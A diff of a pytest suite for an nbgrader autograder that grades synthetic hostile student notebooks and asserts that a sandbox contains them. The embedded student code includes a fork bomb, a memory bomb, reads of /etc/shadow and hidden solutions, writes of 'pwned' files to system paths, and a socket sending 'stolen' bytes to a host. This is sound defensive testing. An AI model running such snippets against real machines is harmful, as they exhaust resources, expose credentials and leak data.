@@ -1,24 +1,31 @@
-"""End to end through nbgrader: a synthetic class and hostile submissions, graded once.
+"""The hostile-submission suite: a synthetic class graded once, end to end through nbgrader.
 
-The class is the demo's (solution, untouched, one student per catalogued mistake, two
-with two mistakes) plus students who attack the checks, write to stderr, loop forever
-or kill their kernel. Each test reads the one grading run.
+The class is the demo's (solution, untouched, one student per catalogued mistake) plus
+students who attack the checks, the kernel, the sandbox and the file format, each with
+its expected status and score. Each test reads the one grading run.
 """
 import csv
 import json
+import os
+import socket
+import threading
 from pathlib import Path
 
 import nbformat
 import pytest
-from nbformat.v4 import new_code_cell
+from nbformat.v4 import new_code_cell, new_markdown_cell
 
 from autograder.classroom import build_class, completed_notebook, one_student_per_mistake, write_submission
 from autograder.grading import autograde_config, grade
-from autograder.labs import read_notebook, student_path
+from autograder.labs import ROOT, read_notebook, source_path, student_path
 from autograder.mistakes import catalogue
+from autograder.sandbox import Limits, bwrap_problem, pids_cgroup_root
 
 LAB = "01_matrix_shapes"
 TIMEOUT = 5
+WALL = 30
+SANDBOXED = bwrap_problem() is None
+needs_sandbox = pytest.mark.skipif(not SANDBOXED, reason=f"no sandbox on this machine: {bwrap_problem()}")
 
 
 def insert_after(nb, cell_id: str, code: str):
@@ -32,7 +39,9 @@ def first_mistake(task):
 
 
 WRONG_EVERYWHERE = [first_mistake("product_shape"), first_mistake("matmul"), first_mistake("ffnn_forward")]
+SOLUTION_FILE = source_path(LAB)
 
+# student: (mistakes (None: untouched, []: all right), insert after cell id, code)
 HOSTILE = {
     # Replaces the check of matmul with one that always succeeds.
     "patches-the-check": (
@@ -60,32 +69,97 @@ HOSTILE = {
     "warns-on-stderr": (
         [], "setup",
         "import sys, warnings\n"
-        "_matmul_loops = None\n"
         "def noisy(fn):\n"
         "    def wrapper(*args, **kwargs):\n"
         "        warnings.warn('loops in Python are slow', RuntimeWarning)\n"
         "        print('debug: called', fn.__name__, file=sys.stderr)\n"
         "        return fn(*args, **kwargs)\n"
         "    return wrapper\n"),
-    # Right answers, then a cell that never ends.
+    # Right answers, then a cell that never ends (it obeys the interrupt).
     "loops-after-answering": ([], "summary", "while True:\n    pass\n"),
+    # Right answers, then a loop that swallows KeyboardInterrupt: only a kill ends it.
+    "swallows-interrupts": (
+        [], "summary",
+        "while True:\n    try:\n        while True:\n            pass\n    except KeyboardInterrupt:\n        pass\n"),
+    # Right answers, then cells that each stay under the cell limit but together pass the wall clock.
+    "slow-but-steady": ([], "summary", ["import time\ntime.sleep(TIMEOUT - 1)\n"] * 12),
     # The kernel ends itself before any answer is checked.
     "exits-the-kernel": ([], "setup", "import os\nos._exit(1)\n"),
+    # sys.exit in a notebook is an error in that cell, nothing more.
+    "calls-sys-exit": ([], "setup", "import sys\nsys.exit(3)\n"),
+    # A segfault.
+    "segfaults": ([], "setup", "import ctypes\nctypes.string_at(0)\n"),
+    # Asks for 8 GB at once, then grows until refused: MemoryError, the rest graded.
+    "memory-bomb": (
+        [], "setup",
+        "try:\n    hog = bytearray(8 * 1024 ** 3)\nexcept MemoryError:\n    pass\n"
+        "import numpy as np\nhogs = []\ntry:\n    while True:\n        hogs.append(np.empty(256 * 1024 ** 2, np.uint8))\n"
+        "except MemoryError:\n    del hogs\n"),
+    # Forks sleepers until refused; they must not outlive the grading.
+    "fork-bomb": (
+        [], "setup",
+        "import os, time\nchildren = 0\ntry:\n    for _ in range(100_000):\n"
+        "        if os.fork() == 0:\n            time.sleep(600)\n            os._exit(0)\n"
+        "        children += 1\nexcept OSError as exc:\n    print('refused after', children, exc)\n"),
+    # 100 MB of output.
+    "floods-output": ([], "setup", "import sys\nfor _ in range(100):\n    sys.stdout.write('x' * 1_000_000)\n"),
+    # Tries to read the solution, the gradebook, other students, the home directory.
+    "snoops": ([], "setup", "SNOOP"),
+    # Tries to write outside its scratch: the check code, the project, the system.
+    "writes-outside": ([], "setup", "WRITE"),
+    # Tries to reach the grading machine over the network.
+    "phones-home": ([], "setup", "PHONE"),
 }
+
+SNOOP = """
+import glob, os
+targets = [{solution!r}, {gradebook!r}, {submitted!r}, {root!r} + '/autograder/judging.py',
+           {root!r} + '/solutions', '/root/.profile', '/etc/shadow']
+for path in targets:
+    try:
+        found = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(10)
+        print('READ', path, str(found)[:40])
+    except OSError as exc:
+        print('DENIED', path, type(exc).__name__)
+"""
+
+WRITE = """
+for path in [{check!r}, {root!r} + '/pwned.txt', '/usr/pwned.txt', '/pwned.txt']:
+    try:
+        with open(path, 'a') as handle:
+            handle.write('pwned')
+        print('WROTE', path)
+    except OSError as exc:
+        print('DENIED', path, type(exc).__name__)
+"""
+
+PHONE = """
+import socket
+for host in ['127.0.0.1', 'pypi.org']:
+    try:
+        socket.create_connection((host, {port}), timeout=2).sendall(b'stolen')
+        print('CONNECTED', host)
+    except OSError as exc:
+        print('DENIED', host, type(exc).__name__)
+"""
 
 
 BROKEN_FILES = [
     ("corrupt-json", f"{LAB}.ipynb", b'{"cells": [{"cell_type": "code", '),
     ("empty-file", f"{LAB}.ipynb", b""),
     ("latin-1", f"{LAB}.ipynb", '{"caf\u00e9": 1}'.encode("latin-1")),
-    ("wrong-name", "lab1.ipynb", (Path(__file__).parent.parent / "labs" / LAB / f"{LAB}.ipynb").read_bytes()),
+    ("two-wrong-names", "lab1.ipynb", b"{}"),
+    ("two-wrong-names", "lab1 copy.ipynb", b"{}"),
 ]
 
 
-def hostile_notebook(student_id):
+def hostile_notebook(student_id, context):
     mistakes, after, code = HOSTILE[student_id]
+    if code in ("SNOOP", "WRITE", "PHONE"):
+        code = {"SNOOP": SNOOP, "WRITE": WRITE, "PHONE": PHONE}[code].format(**context)
     nb = read_notebook(student_path(LAB)) if mistakes is None else completed_notebook(LAB, mistakes)
-    nb = insert_after(nb, after, code)
+    for source in reversed(code if isinstance(code, list) else [code]):
+        nb = insert_after(nb, after, source.replace("TIMEOUT", str(TIMEOUT)))
     if student_id == "warns-on-stderr":
         for cell in nb.cells:
             if cell.get("id") in ("product_shape", "matmul", "ffnn_forward"):
@@ -101,20 +175,110 @@ def looping_matmul_notebook():
     return nb
 
 
+def restructured_notebooks():
+    """Right answers; the notebook's structure and metadata damaged in every way a student can."""
+    def without_test_cells(nb):
+        nb.cells = [c for c in nb.cells if not c.get("id", "").startswith("test_")]
+        return nb
+
+    def duplicated_and_edited_test_cell(nb):
+        index = next(i for i, c in enumerate(nb.cells) if c.get("id") == "test_matmul")
+        copy = nbformat.from_dict(nb.cells[index])
+        copy.id = "my-copy-of-the-test"
+        nb.cells[index].source = "print('all good')"
+        nb.cells.insert(index, copy)
+        return nb
+
+    def reordered(nb):
+        nb.cells = list(reversed(nb.cells[:4])) + nb.cells[4:][::-1]
+        return nb
+
+    def test_cells_as_markdown(nb):
+        for index, cell in enumerate(nb.cells):
+            if cell.get("id", "").startswith("test_"):
+                nb.cells[index] = new_markdown_cell(cell.source, metadata=cell.metadata, id=cell.id)
+        return nb
+
+    def edited_metadata(nb):
+        for cell in nb.cells:
+            meta = cell.metadata.get("nbgrader", {})
+            if meta.get("grade"):
+                meta["points"] = 100
+            if cell.get("id") == "test_matmul":
+                meta["grade"] = False
+            if cell.get("id") == "matmul":
+                del cell.metadata["nbgrader"]
+                cell.id = "my-matmul"
+        return nb
+
+    return {name: edit(completed_notebook(LAB)) for name, edit in [
+        ("deletes-test-cells", without_test_cells), ("duplicates-a-test-cell", duplicated_and_edited_test_cell),
+        ("reorders-cells", reordered), ("markdown-test-cells", test_cells_as_markdown),
+        ("edits-metadata", edited_metadata)]}
+
+
+class Listener:
+    """A TCP server on the grading machine's loopback that records whatever reaches it."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.received = []
+        threading.Thread(target=self.serve, daemon=True).start()
+
+    def serve(self):
+        while True:
+            try:
+                connection, _ = self.server.accept()
+            except OSError:
+                return
+            self.received.append(connection.recv(100))
+
+
+def our_processes(marker: str) -> list[str]:
+    """Command lines of live processes that mention `marker` (the grader's kernels do)."""
+    found = []
+    for pid in os.listdir("/proc"):
+        try:
+            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
+        except OSError:
+            continue
+        if marker in cmdline and int(pid) != os.getpid():
+            found.append(cmdline)
+    return found
+
+
 @pytest.fixture(scope="session")
 def graded(tmp_path_factory):
     root = tmp_path_factory.mktemp("class")
-    submitted = root / "submitted"
+    submitted, out = root / "submitted", root / "out"
+    listener = Listener()
+    context = {"solution": str(SOLUTION_FILE), "gradebook": str(out / "gradebook.db"),
+               "submitted": str(submitted), "root": str(ROOT), "port": listener.port,
+               "check": str(ROOT / "labutils" / "checks" / "lab01.py")}
+    check_before = (ROOT / "labutils" / "checks" / "lab01.py").read_bytes()
     expected = build_class(one_student_per_mistake(LAB), submitted)
     for student_id in HOSTILE:
-        write_submission(submitted, student_id, LAB, hostile_notebook(student_id))
+        write_submission(submitted, student_id, LAB, hostile_notebook(student_id, context))
+    for student_id, nb in restructured_notebooks().items():
+        write_submission(submitted, student_id, LAB, nb)
     write_submission(submitted, "loops-in-matmul", LAB, looping_matmul_notebook())
+    old = submitted / "nbformat-3" / LAB / f"{LAB}.ipynb"
+    old.parent.mkdir(parents=True)
+    nbformat.write(nbformat.convert(completed_notebook(LAB), 3), old)
+    renamed = submitted / "wrong-name" / LAB / "lab1 (1).ipynb"
+    renamed.parent.mkdir(parents=True)
+    nbformat.write(completed_notebook(LAB), renamed)
+    extra = write_submission(submitted, "extra-files", LAB, completed_notebook(LAB)).parent
+    (extra / "notes.txt").write_text("scratch")
+    (submitted / "missing-notebook" / LAB).mkdir(parents=True)
     for student_id, name, content in BROKEN_FILES:
         path = submitted / student_id / LAB / name
-        path.parent.mkdir(parents=True)
+        path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(content)
-    results = grade(submitted, root / "out", timeout=TIMEOUT)
-    return {"root": root, "expected": expected, "results": {r.student_id: r for r in results}}
+    results = grade(submitted, out, timeout=TIMEOUT, limits=Limits(wall_seconds=WALL))
+    return {"root": root, "expected": expected, "results": {r.student_id: r for r in results},
+            "listener": listener, "check_before": check_before, "leftovers": our_processes("nnlabs-")}
 
 
 def points(graded, student_id):
@@ -193,24 +357,154 @@ def test_an_infinite_loop_times_out_and_grading_goes_on(graded):
 def test_a_kernel_that_exits_scores_zero_with_a_reason_and_others_are_graded(graded):
     result = graded["results"]["exits-the-kernel"]
     assert result.points == 0
-    assert "died" in result.status
+    assert result.status.startswith("crashed in cell 2: exit status 1")
     assert points(graded, "solution") == 5
+
+
+def test_sys_exit_is_an_error_in_its_cell_only(graded):
+    result = graded["results"]["calls-sys-exit"]
+    assert (result.status, result.points) == ("graded", 5)
+
+
+def test_a_segfault_is_a_crash_named_as_such(graded):
+    result = graded["results"]["segfaults"]
+    assert result.points == 0
+    assert result.status.startswith("crashed in cell 2: a segmentation fault (SIGSEGV)")
+
+
+def test_a_loop_that_swallows_the_interrupt_gets_its_kernel_killed(graded):
+    result = graded["results"]["swallows-interrupts"]
+    assert result.kind == "killed" and "ignored the interrupt" in result.status
+    assert result.points == 0  # no hidden test can run in a dead kernel
+    assert result.seconds < TIMEOUT + 20
+
+
+def test_the_wall_clock_limit_kills_a_notebook_of_slow_cells(graded):
+    result = graded["results"]["slow-but-steady"]
+    assert result.status == f"killed: the notebook ran past the wall-clock limit of {WALL} s"
+    assert result.seconds < WALL + 15
+
+
+def test_a_memory_bomb_is_refused_and_the_rest_graded(graded):
+    assert (graded["results"]["memory-bomb"].status, points(graded, "memory-bomb")) == ("graded", 5)
+
+
+@pytest.mark.skipif(os.geteuid() == 0 and pids_cgroup_root() is None,
+                    reason="root without a writable pids cgroup: no process limit can be set here")
+def test_a_fork_bomb_is_refused_and_the_rest_graded(graded):
+    assert (graded["results"]["fork-bomb"].status, points(graded, "fork-bomb")) == ("graded", 5)
+    notebook = graded["root"] / "out" / "autograded" / "fork-bomb" / LAB / f"{LAB}.ipynb"
+    assert "refused after" in json.dumps(nbformat.read(notebook, as_version=4).cells[2].outputs)
+
+
+def test_no_process_outlives_the_grading(graded):
+    assert graded["leftovers"] == []
+
+
+def test_a_flood_of_output_is_cut_and_interrupted_and_the_rest_graded(graded):
+    result = graded["results"]["floods-output"]
+    assert result.status.startswith("interrupted (cell 2 printed more than 40 MB")
+    assert result.points == 5
+    notebook = graded["root"] / "out" / "autograded" / "floods-output" / LAB / f"{LAB}.ipynb"
+    assert notebook.stat().st_size < 6 * 1024 * 1024
+
+
+def cell_output(graded, student_id, index):
+    notebook = graded["root"] / "out" / "autograded" / student_id / LAB / f"{LAB}.ipynb"
+    return "".join(o.get("text", "") for o in nbformat.read(notebook, as_version=4).cells[index].outputs)
+
+
+@needs_sandbox
+def test_the_sandbox_hides_solutions_gradebook_other_students_and_home(graded):
+    text = cell_output(graded, "snoops", 2)
+    assert "READ" not in text and text.count("DENIED") == 7, text
+    assert points(graded, "snoops") == 5
+
+
+@needs_sandbox
+def test_the_sandbox_is_read_only_outside_scratch(graded):
+    text = cell_output(graded, "writes-outside", 2)
+    assert "WROTE" not in text and text.count("DENIED") == 4, text
+    assert (ROOT / "labutils" / "checks" / "lab01.py").read_bytes() == graded["check_before"]
+    assert not (ROOT / "pwned.txt").exists()
+
+
+@needs_sandbox
+def test_the_sandbox_has_no_network(graded):
+    text = cell_output(graded, "phones-home", 2)
+    assert "CONNECTED" not in text and text.count("DENIED") == 2, text
+    assert graded["listener"].received == []
+
+
+def test_tampering_is_flagged_in_results_and_gradebook(graded):
+    from nbgrader.api import Gradebook
+
+    for student_id in ("patches-the-check", "patches-the-engine", "input-transformer", "hides-tracebacks"):
+        assert graded["results"][student_id].flags, student_id
+    assert "assigns to lab01.check_matmul" in graded["results"]["patches-the-check"].flags[0]
+    assert not graded["results"]["solution"].flags and not graded["results"]["warns-on-stderr"].flags
+    with Gradebook(f"sqlite:///{graded['root'] / 'out' / 'gradebook.db'}") as gb:
+        assert gb.find_submission_notebook(LAB, LAB, "patches-the-check").flagged
+        assert not gb.find_submission_notebook(LAB, LAB, "solution").flagged
+
+
+@pytest.mark.parametrize("student_id, note", [
+    ("deletes-test-cells", "test cell 'test_matmul' was missing; restored"),
+    ("duplicates-a-test-cell", "test cell 'test_matmul' appeared 2 times; kept once"),
+    ("reorders-cells", None),
+    ("markdown-test-cells", "test cell 'test_matmul' had been turned into markdown; restored"),
+    ("edits-metadata", "answer cell 'matmul' had lost its metadata; found by what it defines"),
+    ("nbformat-3", "converted from nbformat 3 to 4"),
+    ("wrong-name", "the notebook was named lab1 (1).ipynb; graded as 01_matrix_shapes.ipynb"),
+    ("extra-files", "extra files ignored: notes.txt"),
+])
+def test_damaged_structure_is_restored_from_the_source_and_graded(graded, student_id, note):
+    result = graded["results"][student_id]
+    assert (result.status, result.points, result.max_points) == ("graded", 5, 5), result
+    if note:
+        assert note in result.notes
 
 
 @pytest.mark.parametrize("student_id, reason", [
     ("corrupt-json", "not valid JSON"), ("empty-file", "empty"), ("latin-1", "not UTF-8"),
-    ("wrong-name", "no 01_matrix_shapes.ipynb was submitted (found lab1.ipynb)")])
+    ("two-wrong-names", "no 01_matrix_shapes.ipynb was submitted (found lab1 copy.ipynb, lab1.ipynb)"),
+    ("missing-notebook", "no 01_matrix_shapes.ipynb was submitted"),
+])
 def test_unreadable_submissions_get_a_clear_status_and_zero(graded, student_id, reason):
     result = graded["results"][student_id]
     assert result.status.startswith("error") and reason in result.status
     assert result.points == 0 and result.max_points == 5
 
 
-def test_grading_again_changes_nothing(graded, tmp_path):
-    before = (graded["root"] / "out" / "grades.csv").read_text()
-    again = grade(graded["root"] / "submitted", graded["root"] / "out", timeout=TIMEOUT)
-    assert (graded["root"] / "out" / "grades.csv").read_text() == before
-    assert {r.student_id: r.points for r in again} == {s: r.points for s, r in graded["results"].items()}
+def test_feedback_names_points_messages_and_mistakes_but_no_hidden_inputs(graded):
+    page = (graded["root"] / "out" / "feedback" / "mistake-matmul-transposed-indexing" / f"{LAB}.html").read_text()
+    assert "3 / 5 points" in page and "transposed indexing" in page and "hidden tests" in page
+    judges = (ROOT / "autograder" / "judges" / "lab01.py").read_text()
+    assert not any(line.strip() and line.strip() in page for line in judges.splitlines() if len(line.strip()) > 25)
+
+
+def test_the_report_shows_figures_statuses_flags_and_the_slowest(graded):
+    page = (graded["root"] / "out" / "report.html").read_text()
+    assert page.count("data:image/png;base64,") == 3
+    for text in ("swallows-interrupts", "killed", "crashed", "corrupt-json", "patches-the-check",
+                 "Slowest submissions", "transposed indexing"):
+        assert text in page, text
+    assert ("bubblewrap sandbox" in page) == SANDBOXED
+
+
+def test_grading_again_with_nothing_new_grades_nothing_and_changes_nothing(graded, monkeypatch):
+    import autograder.grading
+
+    out = graded["root"] / "out"
+    before = {path: path.read_bytes() for path in [out / "grades.csv", *(out / "results").rglob("*.json")]}
+    started = []
+    run_jobs = autograder.grading.run_jobs
+    monkeypatch.setattr(autograder.grading, "run_jobs", lambda jobs, *args: started.extend(jobs) or run_jobs(jobs, *args))
+    again = grade(graded["root"] / "submitted", out, timeout=TIMEOUT, limits=Limits(wall_seconds=WALL))
+    assert started == []
+    assert {path: path.read_bytes() for path in before} == before
+    assert {r.student_id: (r.status, r.points) for r in again} == {
+        s: (r.status, r.points) for s, r in graded["results"].items()}
 
 
 def test_grades_csv_has_a_row_per_student_and_a_total(graded):
@@ -231,11 +525,11 @@ def test_results_go_into_nbgraders_gradebook_and_its_feedback_works(graded):
         assert gb.find_submission(LAB, "solution").score == 5
         assert gb.find_submission(LAB, "mistake-matmul-transposed-indexing").score == 3
     config = autograde_config(graded["root"] / "submitted", out, None)
-    config.CourseDirectory.feedback_directory = str(out / "feedback")
+    config.CourseDirectory.feedback_directory = str(out / "nbgrader-feedback")
     coursedir = CourseDirectory(config=config)
     coursedir.assignment_id, coursedir.student_id = LAB, "mistake-matmul-transposed-indexing"
     GenerateFeedback(coursedir=coursedir, config=config).start()
-    html = next((out / "feedback").rglob("*.html")).read_text()
+    html = next((out / "nbgrader-feedback").rglob("*.html")).read_text()
     assert "transposed indexing" in html and "HiddenTestsFailed" in html
 
 
